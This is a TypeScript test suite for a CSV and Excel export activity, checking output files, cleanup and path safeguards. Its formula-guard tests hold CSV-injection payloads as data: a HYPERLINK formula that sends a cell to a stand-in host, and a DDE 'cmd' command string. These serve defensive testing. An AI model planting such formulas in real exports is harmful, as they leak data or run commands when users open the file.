import { CancelledFailure } from '@temporalio/activity';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { MockActivityEnvironment } from '@temporalio/testing';
import { DefaultLogger } from '@temporalio/worker';
import Database from 'better-sqlite3';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { makeExportToFile, type FileExportDeps, type FileExportOptions } from '../../activities/export-to-file';
import { failPermanentErrors } from '../../activities/non-retryable';
import { gateRun, RUNS_ON_FILE } from '../../activities/run-gate';
import { loadConfig, type AppConfig } from '../../core/config';
import type { ExportActivityInput, ExportResult } from '../../core/job';
import type { FileConfig, FileScheduling, SchedulingInput } from '../../core/scheduling';
import { SourceRegistry, type QueryCursor, type SourceDriver } from '../../core/sources';
import type { OpenOptions } from '../../core/sources/source';
import { ensureDemoDatabase } from '../../devstack/demo-data';
import { uniqueName } from '../support/names';
import { makeFileScheduling } from '../support/scheduling';

const ROWS = 2_500;
const QUERY = 'SELECT order_id, customer, amount, status, created_at FROM orders ORDER BY order_id';
const COLUMNS = ['order_id', 'customer', 'amount', 'status', 'created_at'];

/** A registry whose cursors pass through `wrap`, and which records what each query was opened with. */
class WrappedSources extends SourceRegistry {
  readonly opened: OpenOptions[] = [];

  constructor(
    config: AppConfig,
    private readonly wrap: (cursor: QueryCursor) => QueryCursor = (cursor) => cursor,
  ) {
    super(config);
  }

  override get(name: string): SourceDriver {
    const real = super.get(name);
    return {
      dialect: real.dialect,
      open: async (sql, options) => {
        this.opened.push(options ?? {});
        return this.wrap(await real.open(sql, options));
      },
      end: () => real.end(),
    };
  }
}

/** An activity environment that keeps the expected failures out of the test output. */
function quietEnvironment(): MockActivityEnvironment {
  return new MockActivityEnvironment(undefined, { logger: new DefaultLogger('ERROR') });
}

describe('CSV and Excel export activity on a real SQLite database', () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'pstt-file-export-'));
  const dbFile = path.join(dir, 'orders.db');
  const baseDir = path.join(dir, 'base');
  let config: AppConfig;
  let expected: string[][];
  const registries: SourceRegistry[] = [];

  beforeAll(() => {
    ensureDemoDatabase(dbFile, ROWS);
    config = { ...loadConfig(), sources: { orders: { url: `sqlite:${dbFile}` } }, baseDir };
    const db = new Database(dbFile, { readonly: true });
    try {
      expected = (db.prepare(QUERY).raw().all() as unknown[][]).map((row) => row.map(String));
    } finally {
      db.close();
    }
  });

  afterAll(async () => {
    for (const registry of registries) await registry.end();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  function depsWith(sources = new WrappedSources(config)): FileExportDeps {
    registries.push(sources);
    return { config, sources };
  }

  function input(
    format: 'csv' | 'excel',
    fileConfig: Partial<FileConfig> = {},
    overrides: Partial<SchedulingInput> = {},
  ): { input: ExportActivityInput<FileScheduling>; outputDir: string } {
    const outputDir = uniqueName('out');
    const scheduling = makeFileScheduling({
      name: 'orders-file',
      schedule: { cron: '0 6 * * *', timezone: 'Europe/Rome' },
      source: 'orders',
      query: QUERY,
      export_format: format,
      file_config: { output_dir: outputDir, ...fileConfig },
      ...overrides,
    });
    const activityInput: ExportActivityInput<FileScheduling> = {
      scheduling,
      scheduledTime: '2026-03-05T23:04:09.000Z',
      lastSuccessTime: null,
    };
    return { input: activityInput, outputDir: path.join(baseDir, outputDir) };
  }

  async function run(
    activityInput: ExportActivityInput<FileScheduling>,
    deps: FileExportDeps = depsWith(),
    options: FileExportOptions = {},
    env = quietEnvironment(),
  ): Promise<ExportResult> {
    return env.run(makeExportToFile(deps, options), activityInput);
  }

  async function readXlsx(file: string): Promise<ExcelJS.Workbook> {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(file);
    return workbook;
  }

  it('writes every row to a CSV named from the scheduled time in the schedule time zone', async () => {
    const { input: activityInput, outputDir } = input('csv');
    const env = quietEnvironment();
    const beats: unknown[] = [];
    env.on('heartbeat', (details: unknown) => beats.push(details));
    const sources = new WrappedSources(config);

    const result = await run(activityInput, depsWith(sources), {}, env);

    // 23:04:09 UTC on March 5th is 00:04:09 on March 6th in Rome.
    const file = path.join(outputDir, 'orders-file_20260306_000409.csv');
    expect(result).toEqual({
      rows: ROWS,
      messages: 0,
      batches: 1,
      bytes: fs.statSync(file).size,
      durationMs: expect.any(Number) as number,
      attempts: 1,
      file,
      // Without `reconcile: count` no count is taken; rows read and written are always recorded.
      reconciliation: {
        rows_read: ROWS,
        rows_delivered: ROWS,
        count: null,
        count_after: null,
        same_snapshot: null,
        suspect: false,
        reason: null,
      },
    });
    expect(fs.readdirSync(outputDir)).toEqual([path.basename(file)]);
    expect(parse(fs.readFileSync(file, 'utf8'))).toEqual([COLUMNS, ...expected]);
    expect(beats).toEqual([{ rowsWritten: 1000 }, { rowsWritten: 2000 }, { rowsWritten: 2500 }]);
    expect(sources.opened).toEqual([
      {
        params: { scheduled_time: new Date('2026-03-05T23:04:09.000Z'), last_success_time: null },
        timeParams: ['scheduled_time', 'last_success_time'],
        timeFormat: 'sql',
        timeoutMs: 3_600_000,
      },
    ]);
  });

  it('honours delimiter, header and BOM', async () => {
    const { input: activityInput } = input('csv', { delimiter: ';', header: false, bom: true, file_name: 'plain' });
    const { file } = await run(activityInput);
    const text = fs.readFileSync(file!, 'utf8');
    expect(path.basename(file!)).toBe('plain.csv');
    expect(text.startsWith('\ufeff1;customer-')).toBe(true);
    expect(parse(text, { delimiter: ';', bom: true })).toEqual(expected);
  });

  describe('formula guard', () => {
    // [as stored, as a guarded CSV reads back]: cells a spreadsheet would run as formulas, and neighbours that must stay.
    const CELLS: [string, string][] = [
      ['=HYPERLINK("http://x.test/?"&A1,"open")', `'=HYPERLINK("http://x.test/?"&A1,"open")`],
      ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
      ['-2+3', "'-2+3"],
      ['@SUM(1,2)', "'@SUM(1,2)"],
      ['\t=1+1', "'\t=1+1"],
      ['\r=1+1', "'\r=1+1"],
      ['-12.50', '-12.50'],
      ['+3e5', '+3e5'],
      ['a=b', 'a=b'],
      ['', ''],
    ];
    /** A SQLite expression for a text: quotes doubled, tab and CR as char(). */
    const sqlText = (value: string) =>
      `'${value.replace(/'/g, "''").replace(/\t/g, "' || char(9) || '").replace(/\r/g, "' || char(13) || '")}'`;
    const values = CELLS.map(([stored], i) => `(${i}, ${sqlText(stored)}, -5)`).join(', ');
    const query = `SELECT column1 AS id, column2 AS "=cell", column3 AS n FROM (VALUES ${values}) ORDER BY id`;

    it('is on by default for CSV: text cells starting like a formula, the header too, read back with a leading quote', async () => {
      const { input: activityInput } = input('csv', {}, { query });
      const { file } = await run(activityInput);
      expect(parse(fs.readFileSync(file!, 'utf8'))).toEqual([
        ['id', "'=cell", 'n'],
        ...CELLS.map(([, guarded], i) => [String(i), guarded, '-5']),
      ]);
    });

    it('with formula_guard: false, writes every cell verbatim', async () => {
      const { input: activityInput } = input('csv', { formula_guard: false }, { query });
      const { file } = await run(activityInput);
      expect(parse(fs.readFileSync(file!, 'utf8'))).toEqual([
        ['id', '=cell', 'n'],
        ...CELLS.map(([stored], i) => [String(i), stored, '-5']),
      ]);
    });

    it('is not needed for Excel: a text cell starting with "=" is stored as text, not as a formula', async () => {
      const { input: activityInput } = input('excel', {}, { query });
      const { file } = await run(activityInput);
      const sheet = (await readXlsx(file!)).worksheets[0]!;
      const cell = sheet.getRow(2).getCell(2);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(CELLS[0]![0]);
      expect(sheet.getRow(1).getCell(2).value).toBe('=cell');
    });
  });

  it("refuses, before opening the source, a folder outside files.allowed_roots (the worker's gate on each attempt)", async () => {
    const sources = new WrappedSources(config);
    registries.push(sources);
    const deps: FileExportDeps = {
      config: { ...config, files: { allowed_roots: [path.join(baseDir, 'allowed')] } },
      sources,
    };
    const exportFile = failPermanentErrors(gateRun(deps, RUNS_ON_FILE, makeExportToFile(deps)));
    const { input: outside, outputDir } = input('csv');
    await expect(quietEnvironment().run(exportFile, outside)).rejects.toMatchObject({
      type: 'SchedulingRefusedError',
      nonRetryable: true,
      message: expect.stringContaining('file_config.output_dir: must lie under one of files.allowed_roots') as string,
    });
    expect(sources.opened).toEqual([]);
    expect(fs.existsSync(outputDir)).toBe(false);

    const { input: allowed } = input('csv', { output_dir: 'allowed/daily' });
    const result: ExportResult = await quietEnvironment().run(exportFile, allowed);
    const { file } = result;
    expect(path.dirname(file!)).toBe(path.join(baseDir, 'allowed', 'daily'));
  });

  it('binds :scheduled_time and the scheduling params in the query', async () => {
    const { input: activityInput } = input(
      'csv',
      {},
      {
        query: 'SELECT order_id FROM orders WHERE created_at <= :scheduled_time AND status = :status ORDER BY order_id',
        params: { status: 'paid' },
        // The demo database writes created_at as ISO-8601 text.
        time_format: 'iso',
      },
    );
    // Demo rows are one a minute from 2026-01-01T00:01Z; status "paid" is every fifth, from order 1.
    const { file, rows } = await run({ ...activityInput, scheduledTime: '2026-01-01T00:20:00.000Z' });
    expect(rows).toBe(4);
    expect(parse(fs.readFileSync(file!, 'utf8'))).toEqual([['order_id'], ['1'], ['6'], ['11'], ['16']]);
  });

  it('writes an XLSX that reads back with the same rows, rolling over to new sheets with headers', async () => {
    const { input: activityInput, outputDir } = input('excel', { sheet_name: 'Orders' });
    const result = await run(activityInput, depsWith(), { maxRowsPerSheet: 1_000 });

    const file = path.join(outputDir, 'orders-file_20260306_000409.xlsx');
    expect(result).toMatchObject({ rows: ROWS, batches: 3, bytes: fs.statSync(file).size, file });
    const workbook = await readXlsx(file);
    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Orders', 'Orders (2)', 'Orders (3)']);
    const dataRows: string[][] = [];
    for (const sheet of workbook.worksheets) {
      const values = sheet.getSheetValues().slice(1) as ExcelJS.CellValue[][];
      expect(values[0]!.slice(1)).toEqual(COLUMNS);
      expect(values.length).toBeLessThanOrEqual(1_000);
      for (const row of values.slice(1)) dataRows.push(row.slice(1).map(String));
      expect(typeof values[1]![1]).toBe('number');
    }
    expect(dataRows).toEqual(expected);
  });

  it('adds a numeric suffix instead of replacing an existing file', async () => {
    const { input: activityInput, outputDir } = input('csv', { file_name: 'daily' });
    const first = await run(activityInput);
    const second = await run(activityInput);
    const third = await run(activityInput);
    expect([first.file, second.file, third.file]).toEqual(
      ['daily.csv', 'daily_1.csv', 'daily_2.csv'].map((name) => path.join(outputDir, name)),
    );
    expect(fs.readdirSync(outputDir).sort()).toEqual(['daily.csv', 'daily_1.csv', 'daily_2.csv']);
  });

  it('leaves no file when the query fails', async () => {
    const { input: activityInput, outputDir } = input('csv', {}, { query: 'SELECT * FROM no_such_table' });
    await expect(run(activityInput)).rejects.toThrow(/no_such_table/);
    expect(fs.readdirSync(outputDir)).toEqual([]);
  });

  it('leaves no file and no partial file when reading fails in the middle', async () => {
    for (const format of ['csv', 'excel'] as const) {
      const { input: activityInput, outputDir } = input(format);
      let reads = 0;
      const sources = new WrappedSources(config, (cursor) => ({
        columns: cursor.columns,
        fields: cursor.fields,
        readValues: (maxRows) => cursor.readValues(maxRows),
        read: async (maxRows) => {
          if (++reads === 2) throw new Error('connection reset by peer');
          return cursor.read(maxRows);
        },
        close: () => cursor.close(),
      }));
      await expect(run(activityInput, depsWith(sources))).rejects.toThrow('connection reset by peer');
      expect(fs.readdirSync(outputDir)).toEqual([]);
    }
  });

  it('leaves no file and no partial file when cancelled', async () => {
    for (const format of ['csv', 'excel'] as const) {
      const { input: activityInput, outputDir } = input(format);
      const env = quietEnvironment();
      let whileRunning: string[] = [];
      // Cancelled after the first chunk is written: the temporary file exists by then.
      env.once('heartbeat', () => {
        whileRunning = fs.readdirSync(outputDir);
        env.cancel();
      });
      await expect(run(activityInput, depsWith(), {}, env)).rejects.toThrow(CancelledFailure);
      expect(whileRunning).toEqual([expect.stringMatching(/^\..+\.partial$/)]);
      expect(fs.readdirSync(outputDir)).toEqual([]);
    }
  });

  it('rejects a file name that would leave the output folder, before reading any row', async () => {
    const { input: activityInput } = input('csv', { file_name: '..{name}' });
    const sources = new WrappedSources(config);
    await expect(run(activityInput, depsWith(sources))).rejects.toThrow(/contains "\.\."/);
    expect(sources.opened).toEqual([]);
  });
});
